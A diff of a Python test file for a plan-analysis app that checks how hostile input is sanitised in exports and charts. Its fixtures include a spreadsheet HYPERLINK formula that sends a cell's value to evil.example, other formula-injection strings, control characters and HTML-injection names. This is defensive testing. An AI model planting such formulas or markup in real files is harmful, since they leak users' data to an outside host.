@@ -22,7 +22,7 @@ from papi_analysis.sanitise import markdown_literal
 from papi_analysis.targets import parse
 from tests.conftest import ROOT
 from tests.test_app import app  # noqa: F401 (a fixture)
-from tests.test_plans import HEADER, ROWS, build_appendix
+from tests.test_plans import HEADER, ROWS, SECTION, build_appendix
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2,"Sở Tư pháp")'
 FORMULAS = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "＝1+1"]
@@ -67,7 +67,7 @@ def hostile_plan(ingested, tmp_path_factory):
     db = folder / "papi.duckdb"
     shutil.copyfile(ingested[0], db)
     long_name = "Sở " + "Rất Dài " * 2000
-    rows = [list(r) for r in ROWS]
+    rows = [list(r) for r in ROWS if r[0] != SECTION]  # the component rows, without the merged section headings
     rows[2][4] = "Tuyên truyền_x0007_ pháp luật_x000B_ở cơ sở"  # BEL and VT in a task
     rows[2][5] = "Sở Tư_x0007_ pháp"
     rows[3][5] = "Sở A/B"
@@ -136,7 +136,8 @@ def test_markdown_in_messages_is_shown_as_written(message):
 
 def test_names_with_html_are_text_in_charts_and_their_images():
     by_agency = pd.DataFrame({"agency": ['<a href="https://evil.example">Sở Y tế</a>', '<span style="font-size:80px">X'],
-                              "met": [1, 0], "not_met": [0, 1], "no_data": [0, 0], "not_understood": [0, 0]})
+                              "met": [1, 0], "not_met": [0, 1], "pending": [0, 0], "no_data": [0, 0],
+                              "not_understood": [0, 0]})
     figure = charts.targets_by_agency(by_agency, "<b>KH</b> <a href='https://evil.example'>1</a>", 2024, "vi")
     shown = " ".join(map(str, figure.data[0].y)) + figure.layout.title.text
     assert "<a " not in shown and "<span" not in shown and "<b>" not in shown
